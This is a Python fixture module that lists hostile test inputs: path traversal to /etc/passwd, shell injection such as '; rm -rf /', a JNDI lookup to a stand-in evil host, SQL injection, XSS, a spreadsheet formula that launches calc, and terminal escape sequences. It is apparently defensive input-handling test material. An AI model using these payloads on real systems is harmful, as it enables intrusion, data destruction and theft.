"""Words that mean something to whoever they pass on their way: paths, formats, SQL, markup, terminals."""

from __future__ import annotations

PATHS = (
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "CON",
    "~root",
    "a" * 5000,
    "$(reboot)",
    "`reboot`",
    "; rm -rf /",
    "| cat /etc/passwd",
    "--config=/etc/passwd",
)
FORMATS = (
    "%s %s %n %x %(x)s",
    "{0} {x.__class__.__mro__} {}",
    "${jndi:ldap://jahat.example/a}",
    "{{ 7 * 7 }} {% include 'x' %}",
    "{ $title } { -merek } { DATETIME($x) }",
    "\ue000 \uf8ff \ue001",
    "=cmd|' /C calc'!A0",
)
QUERIES = (
    "'; DROP TABLE articles; --",
    '" OR 1=1 --',
    "x') ON CONFLICT DO NOTHING; --",
    'NEAR(a b) AND * "',
    "\\",
    "?1 :now @x $y",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<b>tebal",
    "</b></i></a>",
    "&lt;b&gt;tebal&lt;/b&gt;",
    "&amp;lt;b&amp;gt;",
    '<a href="tg://user?id=1">x</a>',
    "<a href='javascript:alert(1)'>x</a>",
    '<tg-emoji emoji-id="1">x</tg-emoji>',
    "<tg-spoiler>x",
    "<pre><code class='language-x'>",
    "&#60;i&#62; &#x3c;i&#x3e;",
    "&#0; &#1; &#xd800; &#x110000;",
    "<!-- <b> -->",
    "]]> <![CDATA[",
    "[x](tg://user?id=1) *tebal* _i_ `c` ||s||",
    "@semua /start #tagar",
    "\"'&<>",
)
TERMINALS = (
    "\x1b[2J\x1b[H bersih",
    "\x1b]0;judul\x07 jendela",
    "\x1b]52;c;cm0=\x07 papan",
    "\x1b]8;;http://jahat.example\x1b\\klik\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\ tanya",
    "\x1b[5n\x1b[c",
    "\x9b31m merah \x9d0;judul\x9c",
    "\x08\x08\x08\x7f hapus",
    "\r\nDisuntik: 1",
    "a\rb\x0bc\x0cd\x85e\u2028f\u2029g",
    "\u202eTXET kiri\u202c \u2066x\u2069 \u200e\u200f",
    "\ufeff\u200b\u2060 tak terlihat",
    "\U000e0041\U000e0042 tag",
    "a\x00b",
    "a" + "\u0301\u0316" * 500,
    "\ufdd0 \uffff \U0010ffff",
)
EVERY = (*PATHS, *FORMATS, *QUERIES, *MARKUP, *TERMINALS)
STEERING = frozenset(map(chr, (*range(0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A))))
"""What a terminal obeys: controls, and what turns the order of a line."""
